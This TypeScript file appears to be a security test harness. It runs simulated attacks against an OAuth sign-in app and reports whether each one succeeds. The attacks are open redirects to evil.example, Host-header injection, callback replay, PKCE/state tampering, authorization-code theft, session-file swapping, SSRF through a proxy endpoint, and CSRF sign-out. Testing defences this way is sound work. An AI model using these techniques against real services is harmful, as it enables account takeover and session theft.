import { once } from "node:events";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { type Attack, allow } from "./stage.ts";
import { exchangeText } from "./wire.ts";

const evil = "https://evil.example";

/** By their IDs in views/how.json, which says what each of them does, and what stops it. */
export const attacks: Record<string, Attack> = {
  async "return-to"({ browser, victim, config }) {
    const replies = [];
    let succeeded = false;
    for (const returnTo of [`${evil}/`, "/%2f%2fevil.example/"]) {
      const client = browser();
      const start = await client.send(`/sign-in?${new URLSearchParams({ returnTo })}`);
      const end = await client.send(await allow(new URL(start.headers.location ?? ""), victim));
      replies.push(start, end);
      // As a careless proxy reads it.
      const location = decodeURIComponent(end.headers.location ?? "/");
      succeeded ||= new URL(location, config.origin).origin !== config.origin;
    }
    return { succeeded, replies };
  },

  async host({ browser }) {
    const headers = { host: "evil.example", "x-forwarded-host": "evil.example" };
    const reply = await browser().send("/sign-in", { headers });
    const text = JSON.stringify([reply.headers, reply.body]);
    return { succeeded: text.includes("evil.example"), replies: [reply] };
  },

  async replay({ browser, victim }) {
    const owner = browser();
    const callback = await allow(await owner.begin(), victim);
    const thief = browser(owner);
    const replies = [await owner.send(callback), await thief.send(callback)];
    return { succeeded: (await thief.user()) !== undefined, replies };
  },

  async state({ browser, attacker }) {
    const owner = browser();
    await owner.begin();
    const page = await browser().begin();
    for (const name of ["code_challenge", "code_challenge_method"]) page.searchParams.delete(name);
    const reply = await owner.send(await allow(page, attacker));
    return { succeeded: (await owner.user()) !== undefined, replies: [reply] };
  },

  async code({ browser, victim, config, sandbox }) {
    const steal = async () => {
      const callback = await allow(await browser().begin(), victim);
      return new URL(callback, config.origin).searchParams.get("code") ?? "";
    };
    const thief = browser();
    const state = (await thief.begin()).searchParams.get("state") ?? "";
    const query = new URLSearchParams({ code: await steal(), state });
    const ours = await thief.send(`${config.callbackPath}?${query}`);
    const { clientId: client_id, redirectUri: redirect_uri } = config;
    const form = { grant_type: "authorization_code", client_id, redirect_uri, code: await steal() };
    const url = `${sandbox.url}/oauth2/token`;
    const response = await fetch(url, { method: "POST", body: new URLSearchParams(form) });
    const portals = { status: response.status, headers: {}, body: await response.text() };
    const text = exchangeText({ method: "POST", url, form }, portals);
    const isIssued = /"access_token"/.test(portals.body);
    return {
      succeeded: isIssued || (await thief.user()) !== undefined,
      replies: [ours, { ...portals, text }],
    };
  },

  async edited({ signedIn, victim, fileOf }) {
    const owner = await signedIn(victim);
    const text = readFileSync(fileOf(owner), "latin1");
    const half = Math.floor(text.length / 2);
    const edited = text.slice(0, half) + (text[half] === "A" ? "B" : "A") + text.slice(half + 1);
    writeFileSync(fileOf(owner), edited);
    const reply = await owner.send("/api/session");
    writeFileSync(fileOf(owner), text);
    return { succeeded: reply.status === 200, replies: [reply] };
  },

  async swapped({ signedIn, victim, attacker, fileOf }) {
    const [owner, thief] = [await signedIn(victim), await signedIn(attacker)];
    const own = readFileSync(fileOf(thief));
    writeFileSync(fileOf(thief), readFileSync(fileOf(owner)));
    const reply = await thief.send("/api/session");
    writeFileSync(fileOf(thief), own);
    return { succeeded: reply.status === 200, replies: [reply] };
  },

  async token({ signedIn, victim, config }) {
    const owner = await signedIn(victim);
    let isReached = false;
    const server = createServer((_req, res) => {
      isReached = true;
      res.end("{}");
    }).listen(0, "127.0.0.1");
    await once(server, "listening");
    const target = `127.0.0.1:${(server.address() as AddressInfo).port}`;
    const headers = { "sec-fetch-site": "same-origin", "sec-fetch-mode": "cors", "sec-fetch-dest": "empty" };
    const replies = [];
    for (const host of [target, `${new URL(config.portal).host}@${target}`])
      replies.push(await owner.send(`/proxy?http://${host}/collect`, { headers }));
    server.close().closeAllConnections();
    return { succeeded: isReached, replies };
  },

  async form({ signedIn, victim }) {
    const owner = await signedIn(victim);
    const headers = { origin: evil, "sec-fetch-site": "cross-site" };
    const form = { csrf_token: "guessed-by-the-attacker" };
    const reply = await owner.send("/sign-out", { method: "POST", headers, form });
    return { succeeded: (await owner.user()) === undefined, replies: [reply] };
  },
};
